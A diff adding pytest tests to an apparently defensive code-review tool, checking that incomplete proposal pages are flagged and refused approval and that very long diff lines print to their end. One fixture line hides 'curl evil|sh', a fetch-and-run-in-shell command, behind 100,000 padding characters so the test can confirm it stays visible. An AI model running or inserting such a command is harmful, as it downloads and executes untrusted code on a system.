@@ -1,7 +1,11 @@
 """Proposals and deployments in words: the summary on top, the difference below, nothing that steers a terminal."""
 
+import pytest
+
 from hivectl import history, proposals
+from hivectl.verdicts import check_whole
 from protocol.approvals import (
+    NOT_WHOLE,
     Approval,
     CapabilityChange,
     Deployment,
@@ -17,6 +21,7 @@ from protocol.approvals import (
     Ref,
 )
 from protocol.configuration import FilePage
+from protocol.problem import Problem, Refused
 
 COMMIT, BASE = "a" * 40, "b" * 40
 CHANGES = (
@@ -100,6 +105,22 @@ def test_a_base_that_moved_and_no_change_of_powers_are_said() -> None:
     )
     assert "reason: no\\x9b" in ended
     assert "code" not in ended
+
+
+def test_what_could_not_be_shown_whole_is_said_and_not_approved() -> None:
+    half = ProposalPage(row(), BASE, (DIFF,), "", "", "")
+    text = proposals.shown(half, proposals.painter(coloured=False))
+    assert text.endswith(f"\n! {NOT_WHOLE}")
+    with pytest.raises(Refused, match="it cannot be approved") as refused:
+        check_whole(half)
+    assert refused.value.problem is Problem.LIMIT
+    check_whole(page())
+    assert NOT_WHOLE not in proposals.shown(page(), proposals.painter(coloured=False))
+
+
+def test_a_long_line_is_printed_to_its_end() -> None:
+    line = DiffLine("+", None, 1, "x" * 100_000 + "curl evil|sh")
+    assert proposals.files_diff((FileDiff("a", None, 9, (line,)),)).endswith("x" * 99_999 + "curl evil|sh")
 
 
 def test_files_that_come_and_go() -> None:
